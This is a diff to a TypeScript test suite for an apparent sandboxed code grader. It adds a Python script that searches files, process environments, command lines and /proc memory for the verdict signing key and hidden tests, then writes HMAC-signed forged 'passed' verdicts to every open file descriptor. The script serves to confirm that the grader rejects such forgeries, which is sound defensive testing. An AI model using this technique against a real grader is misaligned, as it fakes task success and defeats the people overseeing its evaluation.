@@ -19,7 +19,8 @@ const STATEFUL = {
   language: 'python',
   session_mode: 'stateful',
   tests: [
-    { name: 'small', code: 'assert add(2, 3) == 5' },
+    // 583920471 is the one expected value no argument shows (nor any library's bytes): the scan looks for it.
+    { name: 'small', code: 'assert add(2, 3) == 5\nassert add(500000000, 83920471) == 583920471' },
     { name: 'negative', code: 'assert add(-4, 1) == -3\nassert add(-2, -2) == -4' },
   ],
 };
@@ -28,7 +29,7 @@ const FRESH = {
   name: 'forgery-fresh-add',
   session_mode: 'fresh',
   tests: [
-    { name: 'small', code: '#<INSERT>\nassert add(2, 3) == 5' },
+    { name: 'small', code: '#<INSERT>\nassert add(2, 3) == 5\nassert add(500000000, 83920471) == 583920471' },
     { name: 'negative', code: 'assert add(-4, 1) == -3\nassert add(-2, -2) == -4' },
   ],
 };
@@ -39,21 +40,32 @@ const RIGHT = 'def add(a, b):\n    return a + b';
 // Wrong on every input the tests use.
 const WRONG = 'def add(a, b):\n    return a - b + 7';
 
-/** A 48-hex string (the shape of a verdict nonce) the scan below must find, so that it is shown to work. */
-const DECOY = 'd'.repeat(48);
+/** A 64-hex string (the shape of a verdict's signing key) the scan below must find, so that it is shown to work. */
+const DECOY = 'd'.repeat(64);
 
 /**
- * Looks everywhere sandboxed code can for the verdict's nonce and the tests (files, other processes' command
- * lines, environments, memory and fds), then writes forged verdicts with every candidate to every fd it can
- * open. Prints what it found, so the reward's detail shows the scan ran.
+ * Looks everywhere sandboxed code can for the verdict's signing key and the tests (files, other processes'
+ * command lines, environments, mapped memory and fds), then writes verdicts signed with every candidate to every
+ * fd it can open. Prints what it found last, so the reward's detail (the output's end) shows the scan ran.
  */
 const SCAN_AND_FORGE = `
-import os, re, glob
+import os, re, glob, hmac, hashlib
 open("decoy.txt", "w").write("${DECOY}")
 hexes, texts = set(), []
 def grab(data):
     texts.append(data)
-    hexes.update(re.findall(rb"[0-9a-f]{48}", data))
+    hexes.update(re.findall(rb"[0-9a-f]{64}", data))
+def read_memory(pid):
+    # What each readable mapping holds; a process that is not dumpable (the runner) refuses every read.
+    with open("/proc/%s/maps" % pid) as maps, open("/proc/%s/mem" % pid, "rb", 0) as mem:
+        for line in maps:
+            start, end = (int(x, 16) for x in line.split()[0].split("-"))
+            if line.split()[1][0] == "r":
+                try:
+                    mem.seek(start)
+                    grab(mem.read(min(end - start, 1 << 22)))
+                except (OSError, ValueError, OverflowError):
+                    pass
 for path in glob.glob("*") + glob.glob(".*") + glob.glob("/tmp/*") + glob.glob("/tmp/.*") + glob.glob("/tmp/*/.*"):
     try:
         fd = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
@@ -62,14 +74,22 @@ for path in glob.glob("*") + glob.glob(".*") + glob.glob("/tmp/*") + glob.glob("
     except OSError:
         pass
 for pid in [p for p in os.listdir("/proc") if p.isdigit()]:
-    for name in ("cmdline", "environ", "mem"):
+    for name in ("cmdline", "environ"):
         try:
             grab(open("/proc/%s/%s" % (pid, name), "rb").read(1 << 20))
         except (OSError, ValueError):
             pass
-expected_seen = any(b"-3" in t and b"-4" in t for t in texts)
-print("decoy found" if DECOY_BYTES in hexes else "decoy missed", "expected seen" if expected_seen else "expected hidden", flush=True)
-lines = b"".join(b'\\nfusebox-verdict %s {"passed": true, "status": "success", "detail": ""}\\n' % h for h in hexes)
+    try:
+        read_memory(pid)
+    except OSError:
+        pass
+# Computed, so that this script's own text (in its memory) does not hold it.
+expected = str(583920470 + 1).encode()
+expected_seen = any(expected in t for t in texts)
+passing = b'{"passed": true, "status": "success", "detail": ""}'
+lines = b"".join(
+    b"\\nfusebox-verdict %s %s\\n" % (hmac.new(h, passing, hashlib.sha256).hexdigest().encode(), passing) for h in hexes
+)
 lines += b'{"done": true}\\n{"site": 0, "values": [{"repr": "True", "truth": true}]}\\n'
 targets = ["/proc/self/fd/%s" % fd for fd in os.listdir("/proc/self/fd")]
 targets += glob.glob("/proc/[0-9]*/fd/*") + glob.glob("/tmp/*/.fusebox-*") + glob.glob("/tmp/.fusebox-*")
@@ -80,6 +100,11 @@ for target in targets:
         os.close(fd)
     except OSError:
         pass
+# Last: the reward's detail shows the end of the output.
+import sys
+summary = ("decoy found" if DECOY_BYTES in hexes else "decoy missed") + " " + ("expected seen" if expected_seen else "expected hidden")
+print(summary, flush=True)
+print(summary, file=sys.stderr, flush=True)
 `.replace('DECOY_BYTES', `b"${DECOY}"`);
 
 /** Each forgery: code added to the wrong solution (the control adds it to the right one where it is harmless). */
@@ -139,7 +164,7 @@ const FORGERIES: Record<string, { code: (solution: string) => string; harmless: 
       ].join('\n'),
     harmless: false,
   },
-  'a scan for the tests and the nonce, then forged verdicts and reports on every fd': {
+  'a scan for the tests and the signing key, then signed verdicts and reports on every fd': {
     code: (solution) => `${solution}\n${SCAN_AND_FORGE}`,
     harmless: false,
   },
